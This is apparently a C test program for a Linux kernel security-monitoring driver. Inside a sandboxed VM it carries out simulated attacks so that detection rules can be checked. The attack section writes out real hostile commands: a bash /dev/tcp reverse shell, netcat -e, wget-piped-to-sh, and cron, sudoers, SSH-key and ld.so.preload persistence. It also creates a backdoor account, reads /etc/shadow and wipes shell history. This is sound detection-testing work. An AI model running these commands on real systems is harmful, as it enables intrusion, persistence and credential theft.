// SPDX-License-Identifier: GPL-2.0
/*
 * vigil-exercise: runs inside the QEMU guest (static, no libc beyond glibc's
 * static archive) and makes one real system call per driver hook, then prints
 * what it did as ONE JSON line on stdout, so the host test can compare every
 * record read from /dev/vigil with what actually happened.
 *
 * Build: gcc -static -O2 -Wall -o vigil-exercise vigil-exercise.c
 *
 * Usage: vigil-exercise [watched-dir]   (default /tmp/watched)
 *
 * Every step is independent: a failing step is reported with its errno in
 * the JSON ("result") and the program carries on.
 *
 * After the per-hook steps, the program plays an attacker (JSON "attacks"):
 * real actions that the default Sigma rules in rules/linux/ are meant to
 * catch, each in its own child process so its records are easy to find, plus
 * look-alike benign actions (JSON "benign") that must not alert. The guest
 * has no network card, so 192.0.2.10 (TEST-NET-1) is added to lo and this
 * program's listeners there stand in for the attacker's host. /bin/bash is
 * /extra/bash-static when the harness provides it (-a /bin/bash-static):
 * busybox sh has no /dev/tcp. Actions the guest cannot do are reported with
 * a negative "result".
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef AT_EMPTY_PATH
#define AT_EMPTY_PATH 0x1000
#endif

#define EXIT_CODE_CHILD 7
#define DNS_NAME "vigil-test.example.com"
#define MEMFD_NAME "vigil-memfd"

static char json[16384];
static size_t json_len;

static void out(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void out(const char *fmt, ...)
{
	va_list ap;

	if (json_len >= sizeof(json))
		return;
	va_start(ap, fmt);
	int n = vsnprintf(json + json_len, sizeof(json) - json_len, fmt, ap);
	va_end(ap);
	if (n > 0)
		json_len += (size_t)n;
}

static int err_result(int rc)
{
	return rc < 0 ? -errno : rc;
}

/*
 * ,"<key>":"<path resolved>": what the kernel reports as EXEC exe_path for an
 * exec of path (symlinks resolved: /bin/sh -> /bin/busybox), "" when it cannot.
 */
static void out_resolved(const char *key, const char *path)
{
	char buf[PATH_MAX];

	out(",\"%s\":\"%s\"", key, realpath(path, buf) ? buf : "");
}

/* Waits for a child and returns its exit status (or 128+signal). */
static int reap(pid_t pid)
{
	int status = 0;

	if (waitpid(pid, &status, 0) < 0)
		return -errno;
	if (WIFEXITED(status))
		return WEXITSTATUS(status);
	if (WIFSIGNALED(status))
		return 128 + WTERMSIG(status);
	return -1;
}

/* fork + execve("/bin/true", {"/bin/true","a","b","c"}) */
static void step_exec(void)
{
	char *argv[] = { "/bin/true", "a", "b", "c", NULL };
	char *envp[] = { "PATH=/bin:/sbin", "LD_PRELOAD=/tmp/vigil-preload.so", NULL };
	pid_t pid = fork();

	if (pid == 0) {
		execve(argv[0], argv, envp);
		_exit(127);
	}
	int code = reap(pid);

	out(",\"exec\":{\"pid\":%d,\"filename\":\"/bin/true\","
	    "\"argv\":[\"/bin/true\",\"a\",\"b\",\"c\"],"
	    "\"ldPreload\":\"/tmp/vigil-preload.so\",\"exitCode\":%d",
	    (int)pid, code);
	out_resolved("resolved", argv[0]);
	out("}");
}

/* A child that exits with a known code (fork + exit hooks). */
static void step_exit(void)
{
	pid_t pid = fork();

	if (pid == 0)
		_exit(EXIT_CODE_CHILD);
	int code = reap(pid);

	out(",\"exit\":{\"pid\":%d,\"code\":%d}", (int)pid, code);
}

/* Listen on 127.0.0.1:<ephemeral>, connect to it, accept. */
static void step_connect(void)
{
	struct sockaddr_in addr = { .sin_family = AF_INET };
	socklen_t len = sizeof(addr);
	int lfd, cfd = -1, afd = -1, rc = -1, port = 0;

	addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	lfd = socket(AF_INET, SOCK_STREAM, 0);
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&addr, sizeof(addr)) < 0 ||
	    listen(lfd, 4) < 0 ||
	    getsockname(lfd, (struct sockaddr *)&addr, &len) < 0) {
		rc = -errno;
		goto done;
	}
	port = ntohs(addr.sin_port);
	cfd = socket(AF_INET, SOCK_STREAM, 0);
	rc = err_result(connect(cfd, (struct sockaddr *)&addr, sizeof(addr)));
	if (rc == 0)
		afd = accept(lfd, NULL, NULL);
done:
	out(",\"connect\":{\"pid\":%d,\"address\":\"127.0.0.1\",\"port\":%d,"
	    "\"transport\":\"tcp\",\"result\":%d}",
	    (int)getpid(), port, rc);
	if (afd >= 0)
		close(afd);
	if (cfd >= 0)
		close(cfd);
	if (lfd >= 0)
		close(lfd);
}

/* In a child: setresuid(65534, 65534, 65534). */
static void step_setuid(void)
{
	int pipefd[2];
	int rc = 0;
	uid_t old = getuid(), old_e = geteuid();

	if (pipe(pipefd) < 0)
		return;
	pid_t pid = fork();

	if (pid == 0) {
		int r = err_result(setresuid(65534, 65534, 65534));

		if (write(pipefd[1], &r, sizeof(r)) < 0)
			_exit(2);
		_exit(0);
	}
	close(pipefd[1]);
	if (read(pipefd[0], &rc, sizeof(rc)) != sizeof(rc))
		rc = -EIO;
	close(pipefd[0]);
	reap(pid);
	out(",\"setuid\":{\"pid\":%d,\"syscall\":\"setresuid\",\"oldUid\":%u,"
	    "\"oldEuid\":%u,\"newUid\":65534,\"newEuid\":65534,\"result\":%d}",
	    (int)pid, (unsigned)old, (unsigned)old_e, rc);
}

/* PTRACE_ATTACH to a sleeping child, then detach and kill it. */
static void step_ptrace(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		for (;;)
			pause();
	}
	int rc = err_result((int)ptrace(PTRACE_ATTACH, pid, NULL, NULL));

	if (rc == 0) {
		int status;

		waitpid(pid, &status, 0);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	kill(pid, SIGKILL);
	reap(pid);
	out(",\"ptrace\":{\"pid\":%d,\"request\":%d,\"target\":%d,\"result\":%d}",
	    (int)getpid(), PTRACE_ATTACH, (int)pid, rc);
}

/* Create/write under the watched prefix, rename it, chmod +s, unlink. */
static void step_files(const char *dir)
{
	char path[256], renamed[256];
	int fd, rc_open, rc_rename, rc_chmod, rc_unlink;

	snprintf(path, sizeof(path), "%s/x", dir);
	snprintf(renamed, sizeof(renamed), "%s/y", dir);
	mkdir(dir, 0755);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	rc_open = fd < 0 ? -errno : 0;
	if (fd >= 0) {
		if (write(fd, "vigil\n", 6) < 0)
			rc_open = -errno;
		close(fd);
	}
	rc_rename = err_result(rename(path, renamed));
	rc_chmod = err_result(chmod(renamed, 04755));
	rc_unlink = err_result(unlink(renamed));
	out(",\"open\":{\"pid\":%d,\"path\":\"%s\",\"flags\":%d,\"mode\":%d,"
	    "\"result\":%d}",
	    (int)getpid(), path, O_WRONLY | O_CREAT | O_TRUNC, 0644, rc_open);
	out(",\"rename\":{\"pid\":%d,\"from\":\"%s\",\"to\":\"%s\",\"result\":%d}",
	    (int)getpid(), path, renamed, rc_rename);
	out(",\"chmod\":{\"pid\":%d,\"path\":\"%s\",\"mode\":%d,\"result\":%d}",
	    (int)getpid(), renamed, 04755, rc_chmod);
	out(",\"unlink\":{\"pid\":%d,\"path\":\"%s\",\"result\":%d}",
	    (int)getpid(), renamed, rc_unlink);
}

/* A DNS A query for DNS_NAME, sent over UDP to 127.0.0.1:53 (nobody answers). */
static void step_dns(void)
{
	unsigned char pkt[512];
	size_t n = 0;
	struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons(53) };
	const char *label = DNS_NAME;
	int fd, rc;

	addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	/* header: id 0x5647, RD, 1 question */
	const unsigned char hdr[12] = { 0x56, 0x47, 0x01, 0x00, 0x00, 0x01,
					0, 0, 0, 0, 0, 0 };
	memcpy(pkt, hdr, sizeof(hdr));
	n = sizeof(hdr);
	while (*label) {
		const char *dot = strchr(label, '.');
		size_t len = dot ? (size_t)(dot - label) : strlen(label);

		pkt[n++] = (unsigned char)len;
		memcpy(pkt + n, label, len);
		n += len;
		label += len + (dot ? 1 : 0);
	}
	pkt[n++] = 0;
	pkt[n++] = 0; pkt[n++] = 1; /* QTYPE A */
	pkt[n++] = 0; pkt[n++] = 1; /* QCLASS IN */
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	rc = (int)sendto(fd, pkt, n, 0, (struct sockaddr *)&addr, sizeof(addr));
	rc = rc < 0 ? -errno : 0;
	if (fd >= 0)
		close(fd);
	out(",\"dns\":{\"pid\":%d,\"name\":\"%s\",\"port\":53,\"result\":%d}",
	    (int)getpid(), DNS_NAME, rc);
}

/* memfd_create, copy /bin/busybox into it, execveat(fd, "", AT_EMPTY_PATH) as "true". */
static void step_memfd(void)
{
	int mfd = (int)syscall(SYS_memfd_create, MEMFD_NAME, 0);
	int rc = mfd < 0 ? -errno : 0;
	pid_t pid = -1;
	int code = -1;

	if (mfd >= 0) {
		int src = open("/bin/busybox", O_RDONLY);
		char buf[65536];
		ssize_t got;

		while (src >= 0 && (got = read(src, buf, sizeof(buf))) > 0)
			if (write(mfd, buf, (size_t)got) != got)
				break;
		if (src >= 0)
			close(src);
		pid = fork();
		if (pid == 0) {
			char *argv[] = { "true", NULL };
			char *envp[] = { NULL };

			syscall(SYS_execveat, mfd, "", argv, envp, AT_EMPTY_PATH);
			_exit(127);
		}
		code = reap(pid);
		close(mfd);
	}
	out(",\"memfd\":{\"pid\":%d,\"name\":\"%s\",\"result\":%d,"
	    "\"execPid\":%d,\"execExitCode\":%d}",
	    (int)getpid(), MEMFD_NAME, rc, (int)pid, code);
}

/*
 * busybox sh runs its applets by re-executing itself through /proc/self/exe
 * (argv[0] = the applet): sh -c 'cat /dev/null; exit 0' forks and execs
 * "/proc/self/exe" as cat. The sh is this program's child; the cat is its
 * child. "resolved" is what both run: /bin/sh resolved.
 */
static pid_t spawn(const char *path, char *const argv[]);

static void step_proc_self_exe(void)
{
	char *argv[] = { "sh", "-c", "cat /dev/null; exit 0", NULL };
	pid_t pid = spawn("/bin/sh", argv);
	int code = pid < 0 ? -errno : reap(pid);

	out(",\"procSelfExe\":{\"pid\":%d,\"applet\":\"cat\",\"exitCode\":%d",
	    (int)pid, code);
	out_resolved("resolved", "/bin/sh");
	out("}");
}

/* ---- attacker actions ------------------------------------------------- */

#define REMOTE_IP "192.0.2.10"
#define PORT_DEV_TCP 4444
#define PORT_NETCAT 4445
#define PORT_HTTP 8080
#define PORT_PROBE_STD 443
#define UNPRIVILEGED_UID 1000
#define DROPPER "/tmp/vigil-dropper"
#define BEACON_ARG "--beacon"
#define WAIT_CHILD_MS 30000
#define WAIT_PEER_MS 30000

/* Entries of the "attacks" / "benign" objects: a comma before all but the first. */
static int group_first;

static void group_begin(const char *name)
{
	out(",\"%s\":{", name);
	group_first = 1;
}

static void entry_begin(const char *key)
{
	out("%s\"%s\":{", group_first ? "" : ",", key);
	group_first = 0;
}

static char *const attack_env[] = { "PATH=/bin:/sbin", "HOME=/root", "TERM=dumb", NULL };

/* Waits up to ms for a child; then kills it. Exit status as reap(). */
static int reap_within(pid_t pid, int ms)
{
	int status = 0;

	for (int waited = 0; waited < ms; waited += 10) {
		pid_t got = waitpid(pid, &status, WNOHANG);

		if (got == pid) {
			if (WIFEXITED(status))
				return WEXITSTATUS(status);
			return WIFSIGNALED(status) ? 128 + WTERMSIG(status) : -1;
		}
		if (got < 0)
			return -errno;
		usleep(10000);
	}
	kill(pid, SIGKILL);
	reap(pid);
	return -ETIMEDOUT;
}

/* fork + execve(path, argv) with stdout/stderr to /dev/null; returns the pid. */
static pid_t spawn(const char *path, char *const argv[])
{
	pid_t pid = fork();

	if (pid == 0) {
		int null = open("/dev/null", O_RDWR);

		if (null >= 0) {
			dup2(null, STDIN_FILENO);
			dup2(null, STDOUT_FILENO);
			dup2(null, STDERR_FILENO);
		}
		execve(path, argv, attack_env);
		_exit(127);
	}
	return pid;
}

static void out_argv(char *const argv[])
{
	out("\"argv\":[");
	for (int i = 0; argv[i]; i++) {
		out("%s\"", i ? "," : "");
		for (const char *c = argv[i]; *c; c++) {
			if (*c == '"' || *c == '\\')
				out("\\%c", *c);
			else
				out("%c", *c);
		}
		out("\"");
	}
	out("]");
}

/*
 * Runs argv as a command: {"pid":..,"executable":..,"resolved":..,"argv":[..],
 * "exitCode":..}; for a script, "interpreter" names its #! line (the kernel
 * then reports argv as interpreter, script path, arguments, and the
 * interpreter as the file that runs: "resolved").
 */
static void run_script(const char *key, const char *path, char *const argv[],
		       const char *interpreter)
{
	pid_t pid = spawn(path, argv);
	int code = pid < 0 ? -errno : reap_within(pid, WAIT_CHILD_MS);

	entry_begin(key);
	out("\"pid\":%d,\"executable\":\"%s\",", (int)pid, path);
	out_argv(argv);
	if (interpreter)
		out(",\"interpreter\":\"%s\"", interpreter);
	out_resolved("resolved", interpreter ? interpreter : path);
	out(",\"exitCode\":%d}", code);
}

static void run_command(const char *key, const char *path, char *const argv[])
{
	run_script(key, path, argv, NULL);
}

static int listen_tcp(const char *ip, int port)
{
	struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons(port) };
	int one = 1, fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0)
		return -errno;
	inet_pton(AF_INET, ip, &addr.sin_addr);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0 || listen(fd, 4) < 0) {
		int rc = -errno;

		close(fd);
		return rc;
	}
	return fd;
}

/* Reads until `until` is seen, EOF or the deadline; returns bytes read. */
static int read_until(int fd, const char *until, int ms)
{
	char buf[4096];
	size_t have = 0;
	struct pollfd p = { .fd = fd, .events = POLLIN };

	while (have < sizeof(buf) - 1 && poll(&p, 1, ms) > 0) {
		ssize_t n = read(fd, buf + have, sizeof(buf) - 1 - have);

		if (n <= 0)
			break;
		have += (size_t)n;
		buf[have] = 0;
		if (until && strstr(buf, until))
			break;
	}
	return (int)have;
}

/*
 * The attacker's side of one connection: accepts on lfd, optionally reads a
 * request (up to a blank line), sends `reply`, then reads what the victim
 * sends until it hangs up. Returns 1 when a peer connected, else -errno.
 */
static int serve_one(int lfd, int read_request, const char *reply)
{
	struct pollfd p = { .fd = lfd, .events = POLLIN };
	int cfd;

	if (lfd < 0)
		return lfd;
	if (poll(&p, 1, WAIT_PEER_MS) <= 0)
		return -ETIMEDOUT;
	cfd = accept(lfd, NULL, NULL);
	if (cfd < 0)
		return -errno;
	if (read_request)
		read_until(cfd, "\r\n\r\n", WAIT_PEER_MS);
	if (reply && write(cfd, reply, strlen(reply)) < 0) {
		close(cfd);
		return -errno;
	}
	shutdown(cfd, SHUT_WR);
	read_until(cfd, NULL, 5000);
	close(cfd);
	return 1;
}

/*
 * A shell or tool connecting to a listener of this program on ip:port. With
 * `shell`, the program that then runs on the connection (exec'd with the
 * socket as stdin/stdout): "shell" and "shellResolved" in the JSON.
 */
static void connect_back(const char *key, const char *path, char *const argv[],
			 const char *ip, int port, int read_request, const char *reply,
			 const char *shell)
{
	int lfd = listen_tcp(ip, port);
	pid_t pid = lfd < 0 ? -1 : spawn(path, argv);
	int served = pid < 0 ? (lfd < 0 ? lfd : -errno) : serve_one(lfd, read_request, reply);
	int code = pid < 0 ? -1 : reap_within(pid, WAIT_CHILD_MS);

	if (lfd >= 0)
		close(lfd);
	entry_begin(key);
	out("\"pid\":%d,\"executable\":\"%s\",", (int)pid, path);
	out_argv(argv);
	out_resolved("resolved", path);
	if (shell) {
		out(",\"shell\":\"%s\"", shell);
		out_resolved("shellResolved", shell);
	}
	out(",\"remoteIp\":\"%s\",\"port\":%d,\"connected\":%d,\"exitCode\":%d}",
	    ip, port, served, code);
}

static int write_file(const char *path, const char *text, int flags, mode_t mode)
{
	int fd = open(path, O_WRONLY | flags, mode);
	int rc = 0;

	if (fd < 0)
		return -errno;
	if (write(fd, text, strlen(text)) < 0)
		rc = -errno;
	close(fd);
	return rc;
}

static int copy_file(const char *from, const char *to, mode_t mode)
{
	char buf[65536];
	ssize_t got;
	int rc = 0, src = open(from, O_RDONLY), dst;

	if (src < 0)
		return -errno;
	dst = open(to, O_WRONLY | O_CREAT | O_TRUNC, mode);
	if (dst < 0) {
		rc = -errno;
		close(src);
		return rc;
	}
	while ((got = read(src, buf, sizeof(buf))) > 0)
		if (write(dst, buf, (size_t)got) != got) {
			rc = -EIO;
			break;
		}
	close(src);
	close(dst);
	return rc;
}

/* REMOTE_IP/32 on lo (SIOCSIFADDR on the alias lo:1). */
static int add_remote_address(void)
{
	struct ifreq ifr;
	struct sockaddr_in *sin = (struct sockaddr_in *)&ifr.ifr_addr;
	int rc = 0, fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (fd < 0)
		return -errno;
	memset(&ifr, 0, sizeof(ifr));
	strcpy(ifr.ifr_name, "lo:1");
	sin->sin_family = AF_INET;
	inet_pton(AF_INET, REMOTE_IP, &sin->sin_addr);
	if (ioctl(fd, SIOCSIFADDR, &ifr) < 0)
		rc = -errno;
	inet_pton(AF_INET, "255.255.255.255", &sin->sin_addr);
	if (rc == 0 && ioctl(fd, SIOCSIFNETMASK, &ifr) < 0)
		rc = -errno;
	close(fd);
	return rc;
}

/*
 * useradd for the guest, which has no shadow-utils (and Debian's busybox no
 * adduser): adds the account named by the last argument to /etc/passwd,
 * /etc/shadow and /etc/group with the next free uid from 1001.
 */
static const char useradd_script[] =
	"#!/bin/sh\n"
	"for name; do :; done\n"
	"uid=1001\n"
	"while grep -q \"^[^:]*:[^:]*:$uid:\" /etc/passwd; do uid=$((uid + 1)); done\n"
	"echo \"$name:x:$uid:$uid::/home/$name:/bin/sh\" >>/etc/passwd\n"
	"echo \"$name:!:19700:0:99999:7:::\" >>/etc/shadow\n"
	"echo \"$name:x:$uid:\" >>/etc/group\n";

/*
 * What a Debian host has and the initramfs lacks: account files (with a
 * shadow file to steal), the cron/sudoers drop-in directories, root's .ssh,
 * /bin/bash, a useradd. Done in a child so its file records are not the
 * program's own.
 */
static void setup_victim_host(void)
{
	int address = add_remote_address();
	int bash = -ENOENT;
	pid_t pid = fork();

	if (pid == 0) {
		mkdir("/etc/cron.d", 0755);
		mkdir("/etc/sudoers.d", 0750);
		mkdir("/root/.ssh", 0700);
		write_file("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n", O_CREAT | O_EXCL, 0644);
		write_file("/etc/group", "root:x:0:\n", O_CREAT | O_EXCL, 0644);
		write_file("/etc/shadow", "root:$6$vigil$not.a.real.hash:19700:0:99999:7:::\n",
			   O_CREAT | O_EXCL, 0640);
		mkdir("/usr", 0755);
		mkdir("/usr/sbin", 0755);
		write_file("/usr/sbin/useradd", useradd_script, O_CREAT | O_TRUNC, 0755);
		_exit(0);
	}
	reap_within(pid, WAIT_CHILD_MS);
	if (access("/extra/bash-static", X_OK) == 0)
		bash = copy_file("/extra/bash-static", "/bin/bash", 0755);
	else if (access("/bin/bash", X_OK) == 0)
		bash = 0;
	out(",\"setup\":{\"pid\":%d,\"remoteIp\":\"%s\",\"addressResult\":%d,"
	    "\"bashResult\":%d}", (int)pid, REMOTE_IP, address, bash);
}

/*
 * A process running as an unprivileged user (real, effective uid 1000) whose
 * saved uid is still 0 - the state a half-dropped daemon or a cap_setuid
 * binary leaves - switches its effective uid back to 0, makes itself root
 * all through, and dumps /etc/shadow with cat.
 */
static void attack_privesc_shadow(void)
{
	int pipefd[2], rc[3] = { -EIO, -EIO, -EIO };
	pid_t pid;

	if (pipe(pipefd) < 0)
		return;
	pid = fork();
	if (pid == 0) {
		char *argv[] = { "cat", "/etc/shadow", NULL };
		int null = open("/dev/null", O_WRONLY);

		rc[0] = err_result(setresuid(UNPRIVILEGED_UID, UNPRIVILEGED_UID, 0));
		rc[1] = err_result(setresuid(-1, 0, -1));
		rc[2] = err_result(setresuid(0, 0, 0));
		if (write(pipefd[1], rc, sizeof(rc)) < 0)
			_exit(126);
		close(pipefd[1]);
		if (null >= 0)
			dup2(null, STDOUT_FILENO);
		execve("/bin/cat", argv, attack_env);
		_exit(127);
	}
	close(pipefd[1]);
	if (read(pipefd[0], rc, sizeof(rc)) != sizeof(rc))
		rc[0] = rc[1] = rc[2] = -EIO;
	close(pipefd[0]);
	int code = reap_within(pid, WAIT_CHILD_MS);

	entry_begin("privesc");
	out("\"pid\":%d,\"uid\":%d,\"dropResult\":%d,\"regainResult\":%d,"
	    "\"rootResult\":%d,\"executable\":\"/bin/cat\","
	    "\"argv\":[\"cat\",\"/etc/shadow\"],\"exitCode\":%d",
	    (int)pid, UNPRIVILEGED_UID, rc[0], rc[1], rc[2], code);
	out_resolved("resolved", "/bin/cat");
	out("}");
}

/* A dropper copied into /tmp and run from there (this program, as a no-op beacon). */
static void attack_exec_from_tmp(void)
{
	char *argv[] = { DROPPER, BEACON_ARG, NULL };
	int rc = copy_file("/proc/self/exe", DROPPER, 0755);

	if (rc < 0) {
		entry_begin("tempExec");
		out("\"pid\":-1,\"result\":%d}", rc);
		return;
	}
	run_command("tempExec", DROPPER, argv);
}

/* /etc/ld.so.preload written by an implant (no shell involved). */
static void attack_ld_preload(void)
{
	pid_t pid = fork();

	if (pid == 0)
		_exit(write_file("/etc/ld.so.preload", "/tmp/vigil-preload.so\n",
				 O_CREAT | O_APPEND, 0644) < 0 ? 1 : 0);
	int code = reap_within(pid, WAIT_CHILD_MS);

	entry_begin("ldPreload");
	out("\"pid\":%d,\"path\":\"/etc/ld.so.preload\",\"exitCode\":%d}",
	    (int)pid, code);
}

static void step_attacks(void)
{
	char *cron[] = { "sh", "-c",
		"echo '* * * * * root " DROPPER " " BEACON_ARG "' > /etc/cron.d/vigil-job", NULL };
	char *sudoers[] = { "sh", "-c",
		"echo 'vigil ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/vigil", NULL };
	char *keys[] = { "sh", "-c",
		"echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFZpZ2lsVGVzdEtleQ attacker@vigil' "
		">> /root/.ssh/authorized_keys", NULL };
	char *dev_tcp[] = { "bash", "-c",
		"bash -i >& /dev/tcp/" REMOTE_IP "/4444 0>&1", NULL };
	char *netcat[] = { "nc", REMOTE_IP, "4445", "-e", "/bin/sh", NULL };
	char *download[] = { "sh", "-c",
		"wget -q -O - http://" REMOTE_IP ":8080/install.sh | sh", NULL };
	char *insmod[] = { "insmod", "/vigil.ko", NULL };
	char *useradd[] = { "useradd", "-M", "-s", "/bin/sh", "vigil-backdoor", NULL };
	char *rm_history[] = { "rm", "-f", "/root/.bash_history", NULL };
	char *unset_history[] = { "sh", "-c", "unset HISTFILE; export HISTSIZE=0", NULL };
	static const char http_reply[] =
		"HTTP/1.0 200 OK\r\nContent-Type: text/x-sh\r\nContent-Length: 23\r\n\r\n"
		"echo vigil-downloaded\n\n";

	group_begin("attacks");
	attack_privesc_shadow();
	attack_exec_from_tmp();
	run_command("cron", "/bin/sh", cron);
	run_command("sudoers", "/bin/sh", sudoers);
	attack_ld_preload();
	run_command("authorizedKeys", "/bin/sh", keys);
	/* bash forks, redirects the socket onto 0-2 and execs `bash -i` (PATH: /bin/bash). */
	connect_back("devTcp", "/bin/bash", dev_tcp, REMOTE_IP, PORT_DEV_TCP, 0, "exit\n",
		     "/bin/bash");
	connect_back("netcat", "/bin/nc", netcat, REMOTE_IP, PORT_NETCAT, 0, "exit\n", "/bin/sh");
	connect_back("download", "/bin/sh", download, REMOTE_IP, PORT_HTTP, 1, http_reply, NULL);
	run_command("moduleLoad", "/bin/insmod", insmod);
	run_script("accountCreation", "/usr/sbin/useradd", useradd, "/bin/sh");
	run_command("historyDelete", "/bin/rm", rm_history);
	run_command("historyDisable", "/bin/sh", unset_history);
	out("}");
}

/*
 * Look-alikes of the attacks that the rules deliberately leave alone: reading
 * /etc/passwd, writing an unwatched-by-rules file under /etc, and /dev/tcp port
 * probes that only write (to a web port outside, and to loopback).
 */
static void step_benign(void)
{
	char *passwd[] = { "cat", "/etc/passwd", NULL };
	char *motd[] = { "sh", "-c", "echo 'Welcome' > /etc/motd", NULL };
	char *probe_std[] = { "bash", "-c",
		"echo probe > /dev/tcp/" REMOTE_IP "/443", NULL };
	char *probe_lo[] = { "bash", "-c", "echo probe > /dev/tcp/127.0.0.1/4446", NULL };

	group_begin("benign");
	run_command("catPasswd", "/bin/cat", passwd);
	run_command("motd", "/bin/sh", motd);
	connect_back("probeStandardPort", "/bin/bash", probe_std, REMOTE_IP, PORT_PROBE_STD, 0, NULL,
		     NULL);
	connect_back("probeLoopback", "/bin/bash", probe_lo, "127.0.0.1", 4446, 0, NULL, NULL);
	out("}");
}

int main(int argc, char **argv)
{
	const char *dir = argc > 1 ? argv[1] : "/tmp/watched";

	/* Run from /tmp as the dropper: a beacon that does nothing. */
	if (argc > 1 && strcmp(argv[1], BEACON_ARG) == 0)
		return 0;

	out("{\"pid\":%d,\"ppid\":%d,\"uid\":%u,\"euid\":%u,\"gid\":%u,",
	    (int)getpid(), (int)getppid(), (unsigned)getuid(),
	    (unsigned)geteuid(), (unsigned)getgid());
	out_argv(argv);
	step_exec();
	step_exit();
	step_connect();
	step_setuid();
	step_ptrace();
	step_files(dir);
	step_dns();
	step_memfd();
	step_proc_self_exe();
	setup_victim_host();
	step_attacks();
	step_benign();
	out("}\n");
	if (write(STDOUT_FILENO, json, json_len) < 0)
		return 1;
	return 0;
}
